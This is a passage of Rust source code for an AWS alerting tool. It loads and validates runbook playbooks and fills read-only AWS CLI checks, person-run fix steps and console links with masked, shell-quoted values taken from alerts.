//! Runbook steps and console links for a finding, with the alert's real values filled in.
//!
//! The steps are data, in `runbooks.yaml` beside this file (parsed and validated once, like
//! `rules.yaml`): per kind, an ordered list of playbooks, each with a `when` (which situation
//! it fits: `on` alarm / api_call / config / any, and globs over the triggering event's source
//! and name, the alarm's namespaces and metrics) and `steps`. A step is
//! `{do: check|console|fix, title, command?, link?, only_if?, unless?}`:
//!
//! - `check`: a read-only AWS CLI command (refused at load time if its operation is not a
//!   `get-`/`list-`/`describe-`/`lookup-`/`simulate-`/... read), optionally with a link;
//! - `console`: a console deep link (left out when a value in it is not known);
//! - `fix`: the change a person makes, a command or words; its title must say a person runs
//!   it. vigil never runs any step.
//!
//! Titles, commands and links carry `{placeholders}` from [`PLACEHOLDERS`]; a name not on that
//! list is a load-time error naming the step, so a typo is caught rather than shown literally.
//! The first playbook of the kind whose `when` holds gives the steps.
//!
//! Where playbooks come from, first match wins: an owners-file route's `runbooks` override
//! for the kind (the first matched route that has one; see `route.rs`), then a user file
//! (`vigil replay --runbooks FILE`, [`Runbooks::extended_with`]) whose playbooks for a kind are
//! tried before the built-in ones, then the built-in ones.
//!
//! Values come from the alert itself (alarm dimensions and tags, allow-listed request
//! parameters, Config identifiers) and from the probable causes: the role and the policy that
//! changed, the guardrail id and its current and previous versions, the model id, the Service
//! Quotas code (alarm tag `vigil:quota-code`; otherwise the playbooks look it up).
//!
//! Commands are structured. A template is split into words once (`template_words`, checked
//! at load time: quotes group, and shell syntax such as `;`, `|`, `$` or a backtick outside
//! single quotes is refused); each word's placeholders are filled with the value *masked
//! first* (secrets, control characters), a multi-word value such as `{dimensions_flag}`
//! becoming words of its own; and the step's [`Command`] holds those words (`argv`) and the
//! line built from them once, every word through [`shell_quote`]. Nothing transforms that
//! line afterwards: no masking, no escaping that the channel does not undo, no truncation.
//! A renderer shows it exactly or shows a placeholder (`render::withheld`) where it cannot:
//! too long for the channel, characters that do not show as themselves, characters the
//! channel's code formatting cannot hold.
//!
//! Invariant: a value taken from an event reaches a command only masked and then shell-quoted
//! as part of one word, so the line splits by POSIX shell rules into exactly the step's
//! `argv` (sh, dash, bash and zsh; not fish or csh), and reaches a URL only percent-encoded. A
//! value that is not known is rendered as a visible `<placeholder>` word, never guessed, so a
//! command is either right or visibly incomplete. vigil never runs these steps; the "fix"
//! steps say "run by a person". Pure: no I/O, no clock (times derive from the alert's own
//! time).

use std::collections::BTreeMap;
use std::fmt;
use std::sync::LazyLock;

use chrono::{DateTime, Duration, Utc};
use serde::de::{self, SeqAccess, Visitor};
use serde::{Deserialize, Deserializer, Serialize};

use crate::classify::last_segment;
use crate::enrich::Correlation;
use crate::model::{Alert, Change, Kind, Link, MetricRef, ProbableCause, RunbookStep, StepAction};
use crate::redact::Redactor;

// ----------------------------------------------------------------------------------- tables

/// The built-in playbooks (`runbooks.yaml`), as the JSON `build.rs` converts it to (merge keys
/// applied): the same document, quicker to load at start-up. Parsed and validated once; a unit
/// test proves it loads to what `runbooks.yaml` does and that every kind has a check.
const BUILTIN_RUNBOOKS_JSON: &str = include_str!(concat!(env!("OUT_DIR"), "/runbooks.json"));

static BUILTIN: LazyLock<Runbooks> = LazyLock::new(|| {
    // The test `builtin_runbooks_load_and_every_kind_has_a_check` guards this file; an empty
    // set here would still give the team runbook link rather than take the process down.
    serde_json::from_str::<serde_yaml_ng::Value>(BUILTIN_RUNBOOKS_JSON)
        .ok()
        .and_then(|doc| Runbooks::from_document(doc).ok())
        .unwrap_or_default()
});

/// Which body a playbook is for.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum On {
    #[default]
    Any,
    Alarm,
    ApiCall,
    Config,
}

impl On {
    fn is_any(&self) -> bool {
        *self == On::Any
    }
}

/// Accepts `field: value` as well as `field: [a, b]`, like the rules file.
fn one_or_many<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
    struct OneOrMany;
    impl<'de> Visitor<'de> for OneOrMany {
        type Value = Vec<String>;
        fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("a glob or a list of globs")
        }
        fn visit_str<E: de::Error>(self, v: &str) -> Result<Vec<String>, E> {
            Ok(vec![v.to_owned()])
        }
        fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Vec<String>, A::Error> {
            let mut out = Vec::new();
            while let Some(item) = seq.next_element::<String>()? {
                out.push(item);
            }
            Ok(out)
        }
    }
    deserializer.deserialize_any(OneOrMany)
}

/// Where a playbook applies. Every non-empty list must match (any of its globs); the event is
/// the alert's API call, or for alarms the top probable cause. No conditions: everything.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct When {
    #[serde(default, skip_serializing_if = "On::is_any")]
    pub on: On,
    #[serde(
        default,
        deserialize_with = "one_or_many",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub event_source: Vec<String>,
    #[serde(
        default,
        deserialize_with = "one_or_many",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub event_name: Vec<String>,
    #[serde(
        default,
        deserialize_with = "one_or_many",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub namespace: Vec<String>,
    #[serde(
        default,
        deserialize_with = "one_or_many",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub metric: Vec<String>,
}

/// One step template. `only_if` names a value without which the step is left out (a
/// "see the change" step with no change to see would only be noise); `unless` one with which
/// it is left out (a lookup of something already known).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct StepTemplate {
    #[serde(rename = "do")]
    pub action: StepAction,
    pub title: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub link: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub only_if: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub unless: Option<String>,
}

/// Steps for one situation of a kind.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Playbook {
    #[serde(default, skip_serializing_if = "When::is_everything")]
    pub when: When,
    pub steps: Vec<StepTemplate>,
}

impl When {
    fn is_everything(&self) -> bool {
        *self == When::default()
    }
}

/// Playbooks per kind, each kind's in the order they are tried. Validated on construction
/// (every way in goes through [`validate`]), so a set that exists only has known placeholders,
/// known actions and non-empty steps.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(
    try_from = "BTreeMap<String, Vec<Playbook>>",
    into = "BTreeMap<Kind, Vec<Playbook>>"
)]
pub struct Runbooks {
    kinds: BTreeMap<Kind, Vec<Playbook>>,
}

impl TryFrom<BTreeMap<String, Vec<Playbook>>> for Runbooks {
    type Error = RunbookError;
    fn try_from(raw: BTreeMap<String, Vec<Playbook>>) -> Result<Self, RunbookError> {
        let kinds = by_kind(raw, "")?;
        validate(&kinds, "")?;
        Ok(Runbooks { kinds })
    }
}

/// Kind names checked here rather than by serde, so the error names the kind as written.
fn by_kind(
    raw: BTreeMap<String, Vec<Playbook>>,
    prefix: &str,
) -> Result<BTreeMap<Kind, Vec<Playbook>>, RunbookError> {
    let mut kinds = BTreeMap::new();
    for (name, playbooks) in raw {
        let Some(kind) = Kind::ALL.into_iter().find(|k| k.as_str() == name) else {
            return Err(RunbookError::at(
                if prefix.is_empty() {
                    name.clone()
                } else {
                    format!("{prefix}.{name}")
                },
                format!(
                    "unknown kind `{name}`; expected one of {}",
                    Kind::ALL.map(Kind::as_str).join(", ")
                ),
            ));
        };
        kinds.insert(kind, playbooks);
    }
    Ok(kinds)
}

impl From<Runbooks> for BTreeMap<Kind, Vec<Playbook>> {
    fn from(r: Runbooks) -> Self {
        r.kinds
    }
}

/// Top level of a runbooks file. `common` holds anchored snippets and is otherwise ignored.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RunbooksFile {
    #[serde(default)]
    #[allow(dead_code)]
    common: serde_yaml_ng::Value,
    #[serde(default)]
    runbooks: BTreeMap<String, Vec<Playbook>>,
}

/// Why a runbooks file (or an owners-file `runbooks` block) was refused. A mistake in
/// configuration: retrying cannot fix it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RunbookError {
    /// Not YAML at all.
    #[error("runbooks file is not valid YAML: {0}")]
    Syntax(String),
    /// A field that does not fit the schema, or a step that fails validation.
    #[error("{path}: {message}")]
    At {
        /// Where, e.g. `runbooks.access_denied[0].steps[2].command`.
        path: String,
        /// What is wrong.
        message: String,
    },
}

impl RunbookError {
    fn at(path: impl Into<String>, message: impl Into<String>) -> RunbookError {
        RunbookError::At {
            path: path.into(),
            message: message.into(),
        }
    }

    /// Where the problem is (empty for a syntax error or at the top level).
    pub fn path(&self) -> &str {
        match self {
            RunbookError::Syntax(_) => "",
            RunbookError::At { path, .. } => path,
        }
    }

    /// What is wrong, without the path.
    pub fn message(&self) -> String {
        match self {
            RunbookError::Syntax(m) => m.clone(),
            RunbookError::At { message, .. } => message.clone(),
        }
    }

    /// Always `false`: a bad runbooks file stays bad until a person fixes it.
    pub fn is_retryable(&self) -> bool {
        false
    }
}

fn from_path_error(e: serde_path_to_error::Error<serde_yaml_ng::Error>) -> RunbookError {
    let path = e.path().to_string();
    let path = if path == "." { String::new() } else { path };
    RunbookError::at(path, e.into_inner().to_string())
}

impl Runbooks {
    /// The built-in playbooks (`runbooks.yaml`).
    pub fn builtin() -> Runbooks {
        BUILTIN.clone()
    }

    /// Parses and validates a runbooks file: `runbooks:` mapping kinds to playbooks (see the
    /// module docs). An empty document is an empty set. Anchors, aliases and `<<:` merge keys
    /// work; `common:` is a place for anchored snippets.
    pub fn from_yaml(text: &str) -> Result<Runbooks, RunbookError> {
        let mut doc: serde_yaml_ng::Value =
            serde_yaml_ng::from_str(text).map_err(|e| RunbookError::Syntax(e.to_string()))?;
        doc.apply_merge()
            .map_err(|e| RunbookError::Syntax(e.to_string()))?;
        Self::from_document(doc)
    }

    /// [`Runbooks::from_yaml`] of a document already read, merge keys applied.
    fn from_document(doc: serde_yaml_ng::Value) -> Result<Runbooks, RunbookError> {
        if doc.is_null() {
            return Ok(Runbooks::default());
        }
        let file: RunbooksFile = serde_path_to_error::deserialize(doc).map_err(from_path_error)?;
        let kinds = by_kind(file.runbooks, "runbooks")?;
        validate(&kinds, "runbooks")?;
        Ok(Runbooks { kinds })
    }

    /// Parses and validates a kind -> playbooks mapping already read as YAML (the `runbooks`
    /// field of an owners-file destination, merge keys applied). Error paths start at the kind.
    pub fn from_value(value: serde_yaml_ng::Value) -> Result<Runbooks, RunbookError> {
        let raw: BTreeMap<String, Vec<Playbook>> =
            serde_path_to_error::deserialize(value).map_err(from_path_error)?;
        let kinds = by_kind(raw, "")?;
        validate(&kinds, "")?;
        Ok(Runbooks { kinds })
    }

    /// This set with `user` playbooks tried first, kind by kind.
    pub fn extended_with(mut self, user: Runbooks) -> Runbooks {
        for (kind, mut playbooks) in user.kinds {
            if let Some(existing) = self.kinds.remove(&kind) {
                playbooks.extend(existing);
            }
            self.kinds.insert(kind, playbooks);
        }
        self
    }

    /// The playbooks for `kind`, in the order they are tried.
    pub fn playbooks(&self, kind: Kind) -> &[Playbook] {
        self.kinds.get(&kind).map(Vec::as_slice).unwrap_or_default()
    }

    /// Whether any playbook is given for `kind`.
    pub fn has(&self, kind: Kind) -> bool {
        !self.playbooks(kind).is_empty()
    }

    /// Whether the set has no playbooks at all.
    pub fn is_empty(&self) -> bool {
        self.kinds.values().all(Vec::is_empty)
    }
}

/// AWS CLI operations that only read. A `check` must be one of these.
fn is_read_only_command(command: &str) -> bool {
    let mut words = command.split_whitespace();
    let (Some("aws"), Some(_service), Some(op)) = (words.next(), words.next(), words.next()) else {
        return false;
    };
    [
        "get-",
        "list-",
        "describe-",
        "lookup-",
        "simulate-",
        "search-",
        "filter-",
        "batch-get-",
        "head-",
    ]
    .iter()
    .any(|p| op.starts_with(p))
        || op == "tail"
}

/// Names a template uses, `{name}` by `{name}`.
fn placeholder_names(template: &str) -> Vec<String> {
    let mut names = Vec::new();
    let _ = expand(template, |name| {
        names.push(name.to_owned());
        Some(String::new())
    });
    names
}

fn is_placeholder(name: &str) -> bool {
    PLACEHOLDERS.iter().any(|(n, _)| *n == name)
}

/// Names `only_if` / `unless` may use: every placeholder, and the gates that are not.
fn is_gate(name: &str) -> bool {
    is_placeholder(name) || GATES.contains(&name)
}

fn validate(kinds: &BTreeMap<Kind, Vec<Playbook>>, prefix: &str) -> Result<(), RunbookError> {
    let join = |rest: String| {
        if prefix.is_empty() {
            rest
        } else {
            format!("{prefix}.{rest}")
        }
    };
    for (kind, playbooks) in kinds {
        if playbooks.is_empty() {
            return Err(RunbookError::at(
                join(kind.as_str().to_owned()),
                "no playbooks; give at least one or drop the kind",
            ));
        }
        for (p, playbook) in playbooks.iter().enumerate() {
            let here = join(format!("{}[{p}]", kind.as_str()));
            if playbook.steps.is_empty() {
                return Err(RunbookError::at(
                    format!("{here}.steps"),
                    "no steps; a playbook needs at least one",
                ));
            }
            for (s, step) in playbook.steps.iter().enumerate() {
                validate_step(step, &format!("{here}.steps[{s}]"))?;
            }
        }
    }
    Ok(())
}

fn validate_step(step: &StepTemplate, at: &str) -> Result<(), RunbookError> {
    let field = |f: &str| format!("{at}.{f}");
    if step.title.trim().is_empty() {
        return Err(RunbookError::at(field("title"), "must not be empty"));
    }
    for (name, text) in [
        ("title", Some(step.title.as_str())),
        ("command", step.command.as_deref()),
        ("link", step.link.as_deref()),
    ] {
        let Some(text) = text else { continue };
        if let Some(unknown) = placeholder_names(text)
            .into_iter()
            .find(|n| !is_placeholder(n))
        {
            return Err(RunbookError::at(
                field(name),
                format!(
                    "unknown placeholder `{{{unknown}}}` in step \"{}\"; known: {}",
                    step.title,
                    PLACEHOLDERS
                        .iter()
                        .map(|(n, _)| *n)
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            ));
        }
    }
    for (name, gate) in [("only_if", &step.only_if), ("unless", &step.unless)] {
        if let Some(gate) = gate
            && !is_gate(gate)
        {
            return Err(RunbookError::at(
                field(name),
                format!("unknown value `{gate}`; use a placeholder name or one of {GATES:?}"),
            ));
        }
    }
    if let Some(command) = step.command.as_deref() {
        if command.trim().is_empty() {
            return Err(RunbookError::at(
                field("command"),
                "must not be empty (omit it)",
            ));
        }
        let words = template_words(command)
            .map_err(|why| RunbookError::at(field("command"), format!("{why}: {command}")))?;
        if let Some(name) = words.iter().find_map(|w| {
            MULTI_WORD.iter().find(|m| {
                let whole = format!("{{{m}}}");
                w.contains(&whole) && *w != whole
            })
        }) {
            return Err(RunbookError::at(
                field("command"),
                format!(
                    "`{{{name}}}` stands for several words and must be a word of its own: {command}"
                ),
            ));
        }
    }
    if let Some(link) = step.link.as_deref()
        && !link.starts_with("https://")
    {
        return Err(RunbookError::at(field("link"), "must be an https:// URL"));
    }
    match step.action {
        StepAction::Check => match step.command.as_deref() {
            None => Err(RunbookError::at(
                field("command"),
                "a check needs a read-only AWS CLI command",
            )),
            Some(c) if !is_read_only_command(c) => Err(RunbookError::at(
                field("command"),
                format!(
                    "a check must be a read-only AWS CLI command (aws SERVICE get-/list-/describe-/lookup-/simulate-... or logs tail); a change goes under `do: fix`: {c}"
                ),
            )),
            Some(_) => Ok(()),
        },
        StepAction::Console => {
            if step.link.is_none() {
                Err(RunbookError::at(
                    field("link"),
                    "a console step needs a link",
                ))
            } else if step.command.is_some() {
                Err(RunbookError::at(
                    field("command"),
                    "a console step is a link only; put the command in a check or a fix",
                ))
            } else {
                Ok(())
            }
        }
        StepAction::Fix => {
            if step.title.to_ascii_lowercase().contains("a person") {
                Ok(())
            } else {
                Err(RunbookError::at(
                    field("title"),
                    "a fix step's title must say a person runs it, e.g. \"Fix (run by a person): ...\"; vigil never runs it",
                ))
            }
        }
    }
}

/// Step gates that are not placeholders.
const GATES: &[&str] = &["non_compliant"];

/// Every placeholder a template may use, with what is shown when its value is unknown.
const PLACEHOLDERS: &[(&str, &str)] = &[
    ("region", "<region>"),
    ("account", "<account-id>"),
    ("event_id", "<event-id>"),
    ("event_name", "<event-name>"),
    ("username", "<user-name>"),
    ("actor_arn", "<principal-arn>"),
    ("action", "<service:Action>"),
    ("service_code", "<service-code>"),
    ("role", "<role-name>"),
    ("role_arn", "<role-arn>"),
    ("policy_arn", "<policy-arn>"),
    ("policy_name", "<policy-name>"),
    ("user", "<user-name>"),
    ("group", "<group-name>"),
    ("model_id", "<model-id>"),
    ("quota_code", "<quota-code>"),
    ("guardrail_id", "<guardrail-id>"),
    ("guardrail_version", "<guardrail-version>"),
    ("guardrail_previous_version", "<previous-guardrail-version>"),
    ("trail", "<trail-name>"),
    ("recorder", "<recorder-name>"),
    ("function", "<function-name>"),
    ("function_name", "<function-name>"),
    ("table", "<table-name>"),
    ("bucket", "<bucket-name>"),
    ("statement_id", "<statement-id>"),
    ("alarm", "<alarm-name>"),
    ("namespace", "<namespace>"),
    ("metric", "<metric-name>"),
    ("period", "<period-seconds>"),
    ("dimensions_flag", ""),
    ("statistics_flag", "--statistics Sum Average Maximum"),
    ("config_rule", "<config-rule-name>"),
    ("resource_type", "<resource-type>"),
    ("resource_id", "<resource-id>"),
    ("start", "<start-time>"),
    ("end", "<end-time>"),
    ("lookback_start", "<start-time>"),
];

// ----------------------------------------------------------------------------------- values

/// A filled-in value, already masked: `Plain` is one value from an event (part of one word of
/// a command); `Words` is several whole words built here (`--dimensions Name=..,Value=..`),
/// only ever a word, or several, of its own in a template (see [`MULTI_WORD`]).
#[derive(Debug, Clone, PartialEq, Eq)]
enum Value {
    Plain(String),
    Words(Vec<String>),
}

/// A value from an event as it may enter a command, a title or a link: secrets masked and
/// control characters removed (newlines become spaces) *before* it is quoted, so masking never
/// runs over a finished command again.
fn masked(value: &str) -> String {
    crate::redact::sanitize(&Redactor::shared().mask_secrets(value), false).into_owned()
}

/// The values known for one alert, by placeholder name.
#[derive(Debug, Default)]
struct Values {
    map: BTreeMap<&'static str, Value>,
}

impl Values {
    fn set(&mut self, name: &'static str, value: Option<&str>) {
        if let Some(v) = value.map(str::trim).filter(|v| is_real_value(v)) {
            self.map
                .entry(name)
                .or_insert_with(|| Value::Plain(masked(v)));
        }
    }

    /// Several words (each already masked).
    fn words(&mut self, name: &'static str, words: Vec<String>) {
        self.map.insert(name, Value::Words(words));
    }

    fn plain(&self, name: &str) -> Option<&str> {
        match self.map.get(name) {
            Some(Value::Plain(v)) => Some(v),
            _ => None,
        }
    }

    fn has(&self, name: &str) -> bool {
        self.map.contains_key(name)
    }
}

/// CloudTrail writes this in place of values it withholds; it is not a name.
fn is_real_value(v: &str) -> bool {
    !v.is_empty() && v != "HIDDEN_DUE_TO_SECURITY_REASONS"
}

fn request_str<'a>(change: &'a Change, key: &str) -> Option<&'a str> {
    change.request.get(key).and_then(serde_json::Value::as_str)
}

/// AWS Region codes are lowercase letters, digits and dashes (`us-east-1`, `us-gov-west-1`).
/// Checked because the Region becomes part of a console host name in links.
fn valid_region(s: &str) -> bool {
    (9..=25).contains(&s.len())
        && s.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        && s.chars().next().is_some_and(|c| c.is_ascii_lowercase())
        && s.chars().last().is_some_and(|c| c.is_ascii_digit())
}

fn valid_account(s: &str) -> bool {
    s.len() == 12 && s.chars().all(|c| c.is_ascii_digit())
}

fn partition(region: Option<&str>) -> &'static str {
    match region {
        Some(r) if r.starts_with("cn-") => "aws-cn",
        Some(r) if r.starts_with("us-gov-") => "aws-us-gov",
        _ => "aws",
    }
}

/// The Region field of an ARN (`arn:partition:service:region:account:...`).
fn arn_region(arn: &str) -> Option<&str> {
    arn.split(':').nth(3).filter(|r| !r.is_empty())
}

fn is_role_arn(s: &str) -> bool {
    s.starts_with("arn:") && s.contains(":role/")
}

fn is_policy_arn(s: &str) -> bool {
    s.starts_with("arn:") && s.contains(":iam::") && s.contains(":policy/")
}

/// `functionName` may be a name, a partial ARN or a full ARN (with a qualifier); console
/// links need the bare name.
fn function_name(value: &str) -> &str {
    match value.split_once(":function:") {
        Some((_, rest)) => rest.split(':').next().unwrap_or(rest),
        None => value,
    }
}

/// A guardrail id from an id or an ARN (`arn:aws:bedrock:r:a:guardrail/ID`).
fn guardrail_id(value: &str) -> &str {
    match value.split_once(":guardrail/") {
        Some((_, id)) => id,
        None => value,
    }
}

/// Lambda logs versioned event names (`AddPermission20150331v2`); IAM actions have none.
fn strip_api_version(name: &str) -> &str {
    let without_v = match name.rfind('v') {
        Some(pos)
            if name
                .get(pos + 1..)
                .is_some_and(|d| !d.is_empty() && d.chars().all(|c| c.is_ascii_digit())) =>
        {
            name.get(..pos).unwrap_or(name)
        }
        _ => name,
    };
    let digits = without_v
        .chars()
        .rev()
        .take_while(char::is_ascii_digit)
        .count();
    if digits == 8 {
        without_v.get(..without_v.len() - 8).unwrap_or(name)
    } else {
        name
    }
}

/// The IAM action a CloudTrail event stands for: `iam:GetRole`, `lambda:AddPermission`.
fn iam_action(change: &Change) -> String {
    let prefix = match change.service() {
        "monitoring" => "cloudwatch",
        "email" => "ses",
        other => other,
    };
    format!("{prefix}:{}", strip_api_version(&change.event_name))
}

/// The metric runbook charts use: the first one with a namespace (metric math lists the
/// expression operands).
fn primary_metric(alert: &Alert) -> Option<&MetricRef> {
    let alarm = alert.alarm()?;
    alarm
        .metrics
        .iter()
        .find(|m| m.namespace.is_some())
        .or(alarm.metrics.first())
}

fn dimension<'a>(alert: &'a Alert, name: &str) -> Option<&'a str> {
    alert
        .alarm()?
        .metrics
        .iter()
        .find_map(|m| m.dimensions.get(name))
        .map(String::as_str)
}

/// `--statistics` for the five standard statistics (the SNS alarm form spells them in upper
/// case, `SUM`), `--extended-statistics` for percentiles and trimmed means (`p99`, `tm90`).
/// Anything else is left to the default of all three common statistics. Two words.
fn statistics_flag(stat: &str) -> Option<Vec<String>> {
    let standard = match stat.to_ascii_lowercase().as_str() {
        "sum" => Some("Sum"),
        "average" | "avg" => Some("Average"),
        "maximum" | "max" => Some("Maximum"),
        "minimum" | "min" => Some("Minimum"),
        "samplecount" => Some("SampleCount"),
        _ => None,
    };
    if let Some(name) = standard {
        return Some(vec!["--statistics".to_owned(), name.to_owned()]);
    }
    let lower = stat.to_ascii_lowercase();
    let extended = ["p", "tm", "wm", "tc", "ts", "pr", "iqm"]
        .iter()
        .any(|prefix| {
            lower.strip_prefix(prefix).is_some_and(|rest| {
                (*prefix == "iqm" && rest.is_empty())
                    || rest.starts_with(|c: char| c.is_ascii_digit() || c == '(')
            })
        });
    extended.then(|| vec!["--extended-statistics".to_owned(), masked(stat)])
}

fn format_time(t: DateTime<Utc>) -> String {
    t.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

fn shifted(t: DateTime<Utc>, minutes: i64) -> DateTime<Utc> {
    t.checked_add_signed(Duration::minutes(minutes))
        .unwrap_or(t)
}

/// Role names the top cause touched: role ARNs, and for `*Role*` events (whose `roleName`
/// parameter is a plain name) the plain names among its resources that are not policies.
fn cause_roles(cause: &ProbableCause) -> Vec<&str> {
    let mut out: Vec<&str> = cause
        .resources
        .iter()
        .filter(|r| is_role_arn(r))
        .map(|r| last_segment(r))
        .collect();
    if cause.event_name.contains("Role") {
        out.extend(
            cause
                .resources
                .iter()
                .filter(|r| !r.starts_with("arn:"))
                .map(String::as_str),
        );
    }
    out
}

/// The role a runbook should name. The role the change touched wins when it is one the
/// alarm's resource runs as; then the change's role; then the resource's role; then the role
/// of a denied caller.
fn resolve_role(alert: &Alert, corr: &Correlation) -> Option<String> {
    if let Some(name) = alert.api_call().and_then(|c| request_str(c, "roleName")) {
        return Some(last_segment(name).to_owned());
    }
    let resource_roles: Vec<&str> = corr
        .resource_roles
        .iter()
        .map(|r| last_segment(r))
        .collect();
    let from_cause = corr.causes.first().map(cause_roles).unwrap_or_default();
    from_cause
        .iter()
        .find(|r| resource_roles.contains(r))
        .or(from_cause.first())
        .or(resource_roles.first())
        .map(|r| (*r).to_owned())
        .or_else(|| {
            corr.denied
                .iter()
                .find_map(|c| c.actor.role_arn.as_deref())
                .map(|arn| last_segment(arn).to_owned())
        })
}

/// The alarm tag that names the Service Quotas code a throttle alarm is about.
const QUOTA_CODE_TAG: &str = "vigil:quota-code";

/// The guardrail version before the one the alarm watches, when a probable cause published a
/// version of the same guardrail (`CreateGuardrailVersion`): versions are numbered 1, 2, 3 ...
/// so the version it published is the alarm's and the one before is one less. Unknown
/// otherwise (the working draft, a non-numeric version, no such change).
fn previous_guardrail_version(v: &Values, corr: &Correlation) -> Option<String> {
    let id = v.plain("guardrail_id")?;
    let current: u64 = v.plain("guardrail_version")?.parse().ok()?;
    let published = corr.causes.iter().any(|c| {
        c.event_name == "CreateGuardrailVersion"
            && c.resources.iter().any(|r| guardrail_id(r) == id)
    });
    (published && current > 1).then(|| (current - 1).to_string())
}

fn collect_values(alert: &Alert, corr: &Correlation) -> Values {
    let mut v = Values::default();
    let change = alert.api_call();
    let alarm = alert.alarm();
    let config = alert.config();
    let cause = corr.causes.first();

    let region = alert
        .region
        .as_deref()
        .or(change.and_then(|c| c.region.as_deref()))
        .or(alarm.and_then(|a| a.arn.as_deref()).and_then(arn_region))
        .filter(|r| valid_region(r));
    v.set("region", region);
    let account = alert
        .account
        .as_deref()
        .or(change.and_then(|c| c.account.as_deref()))
        .filter(|a| valid_account(a));
    v.set("account", account);

    v.set(
        "event_id",
        change
            .map(|c| c.event_id.as_str())
            .or(cause.map(|c| c.event_id.as_str())),
    );
    v.set(
        "event_name",
        change
            .map(|c| c.event_name.as_str())
            .or(cause.map(|c| c.event_name.as_str())),
    );
    if let Some(c) = change {
        // LookupEvents' Username is the session name for assumed roles.
        v.set(
            "username",
            c.actor
                .session_name
                .as_deref()
                .or(Some(c.actor.name.as_str())),
        );
        v.set(
            "actor_arn",
            c.actor.role_arn.as_deref().or(c.actor.arn.as_deref()),
        );
        v.set("action", Some(&iam_action(c)));
        v.set("service_code", Some(c.service()));
        for (name, key) in [
            ("policy_arn", "policyArn"),
            ("policy_name", "policyName"),
            ("user", "userName"),
            ("group", "groupName"),
            ("model_id", "modelId"),
            ("guardrail_version", "guardrailVersion"),
            ("trail", "name"),
            ("trail", "trailName"),
            ("recorder", "configurationRecorderName"),
            ("function", "functionName"),
            ("function", "functionArn"),
            ("table", "tableName"),
            ("bucket", "bucketName"),
            ("statement_id", "statementId"),
        ] {
            // `name` means the trail only for CloudTrail calls; elsewhere it names other things.
            if key == "name" && c.service() != "cloudtrail" {
                continue;
            }
            v.set(name, request_str(c, key));
        }
        v.set(
            "guardrail_id",
            request_str(c, "guardrailIdentifier")
                .or(request_str(c, "guardrailId"))
                .map(guardrail_id),
        );
    } else if let Some(cause) = cause {
        v.set("username", Some(last_segment(&cause.actor)));
    }
    if let Some(denied) = corr.denied.first() {
        v.set("action", Some(&iam_action(denied)));
    }

    v.set("role", resolve_role(alert, corr).as_deref());
    let role_arn = corr
        .denied
        .iter()
        .find_map(|c| c.actor.role_arn.clone())
        .or_else(|| corr.resource_roles.iter().find(|r| is_role_arn(r)).cloned())
        .or_else(|| {
            let role = v.plain("role")?;
            let account = v.plain("account")?;
            Some(format!(
                "arn:{}:iam::{account}:role/{role}",
                partition(v.plain("region"))
            ))
        });
    v.set("role_arn", role_arn.as_deref());

    if let Some(cause) = cause {
        v.set(
            "policy_arn",
            cause
                .resources
                .iter()
                .find(|r| is_policy_arn(r))
                .map(String::as_str),
        );
        v.set(
            "guardrail_id",
            cause
                .resources
                .iter()
                .find(|r| r.contains(":guardrail/"))
                .map(|r| guardrail_id(r)),
        );
        v.set(
            "trail",
            cause
                .resources
                .iter()
                .find(|r| r.starts_with("arn:") && r.contains(":trail/"))
                .map(String::as_str),
        );
    }

    if let Some(a) = alarm {
        v.set("alarm", Some(&a.name));
        v.set("quota_code", a.tags.get(QUOTA_CODE_TAG).map(String::as_str));
        v.set("model_id", dimension(alert, "ModelId"));
        v.set(
            "guardrail_id",
            dimension(alert, "GuardrailArn").map(guardrail_id),
        );
        v.set("guardrail_version", dimension(alert, "GuardrailVersion"));
        v.set("function", dimension(alert, "FunctionName"));
        v.set("table", dimension(alert, "TableName"));
        v.set("bucket", dimension(alert, "BucketName"));
    }
    if let Some(m) = primary_metric(alert) {
        v.set("namespace", m.namespace.as_deref());
        v.set("metric", Some(&m.name));
        v.set("period", Some(&m.period.unwrap_or(300).to_string()));
        // One word per dimension; the shell quoting of the whole word happens once, when the
        // command line is built from the words.
        let dims: Vec<String> = m
            .dimensions
            .iter()
            .map(|(k, val)| format!("Name={},Value={}", masked(k), masked(val)))
            .collect();
        if !dims.is_empty() {
            let mut words = vec!["--dimensions".to_owned()];
            words.extend(dims);
            v.words("dimensions_flag", words);
        }
        if let Some(flag) = m.stat.as_deref().and_then(statistics_flag) {
            v.words("statistics_flag", flag);
        }
    }
    if let Some(c) = config {
        v.set("config_rule", c.rule_name.as_deref());
        // Not a placeholder: gates the steps that only make sense for a failing rule.
        if c.rule_name.is_some() && c.compliance.as_deref() == Some("NON_COMPLIANT") {
            v.set("non_compliant", Some("NON_COMPLIANT"));
        }
        v.set("resource_type", c.resource_type.as_deref());
        v.set("resource_id", c.resource_id.as_deref());
        let name = c.resource_name.as_deref().or(c.resource_id.as_deref());
        match c.resource_type.as_deref() {
            Some("AWS::Lambda::Function") => v.set("function", name),
            Some("AWS::S3::Bucket") => v.set("bucket", name),
            Some("AWS::IAM::Role") => v.set("role", c.resource_name.as_deref()),
            _ => {}
        }
    }

